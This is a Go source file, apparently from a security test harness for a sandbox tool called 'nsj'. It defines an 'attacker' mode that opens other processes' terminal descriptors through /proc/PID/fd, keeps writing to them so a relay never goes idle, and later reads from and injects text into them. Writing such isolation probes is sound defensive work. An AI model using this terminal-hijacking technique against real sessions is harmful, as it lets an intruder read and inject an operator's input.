package main

import (
	"fmt"
	"time"

	"golang.org/x/sys/unix"
)

// grabTerminal is -mode grabtty: the container's init watches for the
// processes nsj runs in the container (`--fs container`, confined to the
// container's privileges, so within its reach once executed) and opens
// their /proc/PID/fd/0 and fd/1, as the container's root may. It keeps the
// descriptors: "GRAB pid=N fd=F target=T", and keeps writing dots to the
// first one (keepWriting). Once stop exists (nsj has
// exited and the operator has typed into the terminal nsj ran on) it tries
// each: "READ fd=F got=TEXT" or "READ fd=F err=E", then writes a line to it,
// "WRITE fd=F ok" or "WRITE fd=F err=E". What nsj gave the command as its
// terminal must by then be no terminal of the operator's.
func (a *attacker) grabTerminal(stop string) {
	grabbed := map[int]bool{}
	type held struct{ fd int }
	var fds []held
	for !exists(stop) {
		for _, pid := range a.candidates() {
			if grabbed[pid] || comm(pid) == "" {
				continue
			}
			for _, n := range []int{0, 1} {
				path := fmt.Sprintf("/proc/%d/fd/%d", pid, n)
				fd, err := unix.Open(path, unix.O_RDWR|unix.O_NOCTTY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
				if err != nil {
					continue
				}
				grabbed[pid] = true
				if len(fds) == 0 {
					go keepWriting(fd, stop)
				}
				fds = append(fds, held{fd})
				a.logf("GRAB pid=%d comm=%s fd=%d target=%q", pid, comm(pid), n, readlink(path))
			}
		}
		time.Sleep(5 * time.Millisecond)
	}
	for _, h := range fds {
		a.logf("READ fd=%d %s", h.fd, readSome(h.fd))
		if _, err := unix.Write(h.fd, []byte("\r\nGRABBED-TERMINAL-WRITE\r\n")); err != nil {
			a.logf("WRITE fd=%d err=%v", h.fd, err)
		} else {
			a.logf("WRITE fd=%d ok", h.fd)
		}
	}
	a.logf("DONE")
	select {}
}

// keepWriting writes to the first terminal it grabbed, every 20 ms until
// stop exists, to keep a relay that waits for silence from ever ending.
func keepWriting(fd int, stop string) {
	for !exists(stop) {
		unix.Write(fd, []byte("."))
		time.Sleep(20 * time.Millisecond)
	}
}

// readSome reads what fd has within two seconds: "got=TEXT" or "err=E".
func readSome(fd int) string {
	buf := make([]byte, 4096)
	deadline := time.Now().Add(2 * time.Second)
	for {
		n, err := unix.Read(fd, buf)
		switch {
		case err == unix.EAGAIN && time.Now().Before(deadline):
			time.Sleep(20 * time.Millisecond)
			continue
		case err != nil:
			return fmt.Sprintf("err=%v", err)
		}
		return fmt.Sprintf("got=%q", buf[:n])
	}
}

func readlink(path string) string {
	buf := make([]byte, 256)
	n, err := unix.Readlink(path, buf)
	if err != nil {
		return err.Error()
	}
	return string(buf[:n])
}
